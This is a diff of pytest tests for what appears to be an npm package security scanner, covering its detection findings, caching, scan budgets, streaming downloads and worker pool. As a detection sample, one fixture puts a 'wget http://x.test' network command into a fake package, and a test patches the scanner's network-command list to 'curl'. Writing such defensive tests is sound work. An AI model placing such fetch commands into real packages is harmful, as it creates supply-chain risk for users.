+                patch.object(tarball_scanner, 'FILE_FINDINGS_CACHE', False):
+            start_scan_pool(2)
+            try:
+                findings = scan_tarball(path, policy={"stop_when_saturated": True})
+            finally:
+                close_scan_pool()
+        
+        assert findings["scan_status"]["reasons"] == ["saturated"]
+        assert [p["file"] for p in findings["eval_patterns"]] == [os.path.join("package", "a.js")]
+    
+    def test_unchanged_files_are_served_from_content_hash_cache(self, tmp_path):
+        import tarball_scanner
+        from tarball_scanner import get_file_cache_stats, reset_file_cache_stats, scan_tarball
+        
+        vendored = "/* polyfill */ eval(shim);\n" * 20
+        v1 = dict(SAMPLE_TARBALL_FILES, **{"package/vendor/a.js": vendored, "package/vendor/b.js": vendored})
+        v2 = dict(v1, **{"package/index.js": "module.exports = fetch('x');\nwget http://x.test\n"})
+        
+        reset_file_cache_stats()
+        first = scan_tarball(build_tarball(tmp_path / "v1.tgz", v1))
+        stats = get_file_cache_stats()
+        assert stats["hits"] == 0 and stats["duplicates"] == 1 and stats["misses"] == 5
+        eval_files = [p["file"] for p in first["eval_patterns"]]
+        assert eval_files[-2:] == [os.path.join("package", "vendor", name) for name in ("a.js", "b.js")]
+        
+        reset_file_cache_stats()
+        second = scan_tarball(build_tarball(tmp_path / "v2.tgz", v2))
+        stats = get_file_cache_stats()
+        assert stats["misses"] == 1 and stats["hits"] == 5
+        assert stats["bytes_skipped"] > stats["bytes_scanned"]
+        with patch.object(tarball_scanner, 'FILE_FINDINGS_CACHE', False):
+            assert second == scan_tarball(str(tmp_path / "v2.tgz"))
+        
+        reset_file_cache_stats()
+        with patch.object(tarball_scanner, 'RULESET_VERSION', "changed-rules"):
+            scan_tarball(build_tarball(tmp_path / "v2c.tgz", v2))
+        assert get_file_cache_stats()["hits"] == 0
+    
+    def test_scan_budgets_mark_partial_scans(self, tmp_path):
+        from tarball_scanner import get_tarball_summary, scan_tarball
+        
+        files = dict(SAMPLE_TARBALL_FILES)
+        for i in range(5):
+            files[f"package/dist/chunk{i}.js"] = "eval(a);\n" * 20
+        path = build_tarball(tmp_path / "pkg.tgz", files)
+        
+        complete = scan_tarball(path)
+        assert complete["scan_status"] == {"partial": False, "reasons": [], "evidence_dropped": {}}
+        assert len(complete["eval_patterns"]) == 6
+        
+        capped = scan_tarball(path, policy={"max_evidence": 2})
+        assert [p["file"] for p in capped["eval_patterns"]] == [p["file"] for p in complete["eval_patterns"][:2]]
+        assert capped["scan_status"] == {
+            "partial": False,
+            "reasons": [],
+            "evidence_dropped": {"network_patterns": 1, "eval_patterns": 4}
+        }
+        
+        saturated = scan_tarball(path, policy={"stop_when_saturated": True})
+        assert saturated["scan_status"]["reasons"] == ["saturated"]
+        assert saturated["has_postinstall"] and saturated["has_network_commands"]
+        assert saturated["eval_patterns"] == [] and not saturated["has_high_entropy"]
+        
+        truncated = scan_tarball(path, policy={"max_file_bytes": 20, "max_total_bytes": 100})
+        assert truncated["scan_status"]["reasons"] == ["max_file_bytes", "max_total_bytes"]
+        assert not truncated["has_high_entropy"]
+        
+        expired = scan_tarball(path, policy={"deadline_seconds": 0})
+        assert expired["scan_status"] == {"partial": True, "reasons": ["deadline"], "evidence_dropped": {}}
+        assert not expired["has_postinstall"] and not expired["has_eval_function"]
+        assert get_tarball_summary(expired)[-1] == "Tarball scan incomplete (deadline); findings may be missing"
+    
+    def test_evidence_is_capped_while_merging(self, tmp_path):
+        from tarball_scanner import FILE_MAX_EVIDENCE, empty_findings, scan_file_content, scan_tarball
+        
+        blob = "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY" * 4
+        noisy = "".join(f"const s{i} = '{blob}';\n" for i in range(FILE_MAX_EVIDENCE + 10))
+        
+        single = empty_findings()
+        scan_file_content(noisy, "noisy.js", single)
+        assert len(single["high_entropy_strings"]) == FILE_MAX_EVIDENCE
+        assert single["evidence_dropped"] == {"high_entropy_strings": 10}
+        
+        path = build_tarball(tmp_path / "pkg.tgz", {f"package/n{i}.js": noisy for i in range(3)})
+        total = 3 * (FILE_MAX_EVIDENCE + 10)
+        for _ in range(2):
+            findings = scan_tarball(path, policy={"max_evidence": 5})
+            assert len(findings["high_entropy_strings"]) == 5
+            assert "evidence_dropped" not in findings
+            assert findings["scan_status"]["evidence_dropped"] == {"high_entropy_strings": total - 5}
+    
+    def test_package_json_reads_are_budgeted(self, tmp_path):
+        from tarball_scanner import scan_tarball
+        
+        manifest = SAMPLE_TARBALL_FILES["package/package.json"]
+        path = build_tarball(tmp_path / "pkg.tgz", {
+            "package/package.json": manifest,
+            "package/node_modules/dep/package.json": "{" + " " * 100000 + "}"
+        })
+        
+        nested_skipped = scan_tarball(path, policy={"max_total_bytes": len(manifest)})
+        assert not nested_skipped["scan_status"]["partial"]
+        assert nested_skipped["has_postinstall"]
+        
+        oversized = scan_tarball(path, policy={"max_file_bytes": 10})
+        assert oversized["scan_status"]["reasons"] == ["max_file_bytes"]
+        assert not oversized["has_postinstall"]
+        
+        over_budget = scan_tarball(path, policy={"max_total_bytes": len(manifest) - 1})
+        assert over_budget["scan_status"]["reasons"] == ["max_total_bytes"]
+    
     def test_scan_nonexistent_tarball(self):
         from tarball_scanner import scan_tarball
         
@@ -225,3 +1166,194 @@ class TestTarballScanner:
         
         summary = get_tarball_summary(findings)
         assert len(summary) == 2
+
+
+@pytest.mark.asyncio
+@pytest.mark.usefixtures("scanner_cache")
+class TestStreamingScan:
+    async def serve(self, payload, handler=None):
+        import httpx
+        import registry
+        
+        async def chunks():
+            for i in range(0, len(payload), 512):
+                yield payload[i:i + 512]
+        
+        client = await registry.start_http_client()
+        client._transport = httpx.MockTransport(handler or (lambda request: httpx.Response(200, content=chunks())))
+        return registry
+    
+    async def test_scan_remote_stream_matches_file_scan(self, tmp_path):
+        import hashlib
+        from audit import generate_flags, TARBALL_REJECTION_FLAGS
+        from tarball_scanner import get_tarball_summary, scan_remote_stream, scan_tarball
+        
+        path = build_tarball(tmp_path / "pkg.tgz", SAMPLE_TARBALL_FILES)
+        with open(path, "rb") as f:
+            payload = f.read()
+        
+        registry = await self.serve(payload)
+        try:
+            url = "https://r.test/pkg.tgz"
+            with patch('tarball_scanner.tempfile.mkdtemp', side_effect=AssertionError("touched disk")):
+                findings = await scan_remote_stream(url, shasum=hashlib.sha1(payload).hexdigest())
+            assert findings == scan_tarball(path)
+            
+            rejected = await scan_remote_stream(url, shasum="0" * 40)
+            assert rejected["scan_status"]["partial"]
+            assert rejected["scan_status"]["reasons"] == ["integrity_mismatch"]
+            assert TARBALL_REJECTION_FLAGS["integrity_mismatch"] in get_tarball_summary(rejected)
+            assert TARBALL_REJECTION_FLAGS["integrity_mismatch"] in generate_flags({}, {}, {}, {}, rejected)
+        finally:
+            await registry.close_http_client()
+    
+    async def test_stream_survives_scanner_stopping_early(self):
+        import asyncio
+        from tarball_scanner import TarballStream
+        
+        registry = await self.serve(b"not a gzip stream" * 20000)
+        try:
+            stream = TarballStream(max_chunks=2)
+            scan = asyncio.get_running_loop().run_in_executor(None, stream.scan)
+            ok = await asyncio.wait_for(registry.stream_tarball("https://r.test/pkg.tgz", stream.feed), 5)
+            await stream.finish(ok)
+            
+            assert ok
+            assert (await scan)["eval_patterns"] == []
+        finally:
+            await registry.close_http_client()
+    
+    async def test_stream_delivers_eof_to_lagging_scanner(self, tmp_path):
+        import asyncio
+        from tarball_scanner import TarballStream, scan_tarball
+        
+        path = build_tarball(tmp_path / "pkg.tgz", SAMPLE_TARBALL_FILES)
+        with open(path, "rb") as f:
+            payload = f.read()
+        chunks = [payload[i:i + 256] for i in range(0, len(payload), 256)]
+        
+        stream = TarballStream(max_chunks=len(chunks))
+        for chunk in chunks:
+            await stream.feed(chunk)
+        finishing = asyncio.create_task(stream.finish(True))
+        await asyncio.sleep(0.05)
+        assert not finishing.done()
+        
+        scan = asyncio.get_running_loop().run_in_executor(None, stream.scan)
+        await asyncio.wait_for(finishing, 5)
+        assert await asyncio.wait_for(scan, 5) == scan_tarball(path)
+    
+    async def test_verified_tarball_findings_skip_download_on_reaudit(self, tmp_path):
+        import base64
+        import hashlib
+        import httpx
+        import tarball_scanner
+        from tarball_scanner import scan_remote_stream
+        
+        path = build_tarball(tmp_path / "pkg.tgz", SAMPLE_TARBALL_FILES)
+        with open(path, "rb") as f:
+            payload = f.read()
+        integrity = "sha1-abc sha512-" + base64.b64encode(hashlib.sha512(payload).digest()).decode()
+        
+        requests = []
+        
+        def handler(request):
+            requests.append(request.url.path)
+            return httpx.Response(200, content=payload)
+        
+        registry = await self.serve(payload, handler)
+        try:
+            url = "https://r.test/pkg.tgz"
+            first = await scan_remote_stream(url, integrity=integrity)
+            assert await scan_remote_stream(url, integrity=integrity) == first
+            assert len(requests) == 1
+            
+            with patch.object(tarball_scanner, 'RULESET_VERSION', "changed-rules"):
+                assert await scan_remote_stream(url, integrity=integrity) == first
+            assert len(requests) == 2
+            
+            with patch.object(tarball_scanner, 'NETWORK_COMMANDS', ["curl"]):
+                await scan_remote_stream(url, integrity=integrity)
+            with patch.dict(tarball_scanner.SCAN_POLICY, {"max_evidence": 1}):
+                await scan_remote_stream(url, integrity=integrity)
+            assert len(requests) == 4
+            
+            await scan_remote_stream(url)
+            await scan_remote_stream(url)
+            assert len(requests) == 6
+            
+            shasum = hashlib.sha1(payload).hexdigest()
+            with patch.dict(tarball_scanner.SCAN_POLICY, {"deadline_seconds": 0}):
+                partial = await scan_remote_stream(url, shasum=shasum)
+            assert partial["scan_status"]["reasons"] == ["deadline"]
+            assert await scan_remote_stream(url, shasum=shasum) == first
+            assert len(requests) == 8
+            
+            assert registry.tarball_cache_key(integrity, "ABC") == integrity.split()[1]
+            assert registry.tarball_cache_key(None, "ABC") == "shasum-abc"
+            assert registry.tarball_cache_key(None, None) is None
+        finally:
+            await registry.close_http_client()
+
+
+@pytest.mark.asyncio
+class TestWorkerPool:
+    async def test_bounded_queue_rejects_and_reports_wait(self):
+        import asyncio
+        import threading
+        from workers import (
+            WorkerPoolFull, close_worker_pool, get_worker_stats, run_in_worker, start_worker_pool, submit_to_worker
+        )
+        
+        release = threading.Event()
+        start_worker_pool(threads=1, queue_depth=1)
+        try:
+            running = submit_to_worker(release.wait, 5)
+            queued = submit_to_worker(lambda: threading.current_thread().name)
+            
+            with pytest.raises(WorkerPoolFull):
+                submit_to_worker(release.wait, 5)
+            
+            stats = get_worker_stats()
+            assert stats["pending"] == 2 and stats["queued"] == 1 and stats["rejected"] == 1
+            
+            await asyncio.sleep(0.05)
+            release.set()
+            assert await running
+            assert (await queued).startswith("pkgaudit-worker")
+            assert await run_in_worker(sum, [1, 2, 3]) == 6
+            
+            stats = get_worker_stats()
+            assert stats["pending"] == 0 and stats["completed"] == 3
+            assert stats["queue_wait_ms"]["max"] >= 40
+        finally:
+            close_worker_pool()
+        
+        assert await run_in_worker(sum, [1, 2]) == 3
+    
+    async def test_stream_scans_do_not_hold_cpu_workers(self):
+        import asyncio
+        import threading
+        from workers import (
+            WorkerPoolFull, close_worker_pool, get_worker_stats, run_in_worker, start_worker_pool, submit_stream_scan
+        )
+        
+        release = threading.Event()
+        start_worker_pool(threads=1, queue_depth=0, stream_threads=2)
+        try:
+            downloads = [submit_stream_scan(release.wait, 5) for _ in range(2)]
+            with pytest.raises(WorkerPoolFull):
+                submit_stream_scan(release.wait, 5)
+            
+            assert await run_in_worker(sum, [1, 2, 3]) == 6
+            stats = get_worker_stats()
+            assert stats["stream_scans"] == {"threads": 2, "active": 2, "submitted": 2, "rejected": 1}
+            assert stats["rejected"] == 0
+            
+            release.set()
+            assert all([await download for download in downloads])
+            await asyncio.sleep(0)
+            assert get_worker_stats()["stream_scans"]["active"] == 0
+        finally:
+            release.set()
+            close_worker_pool()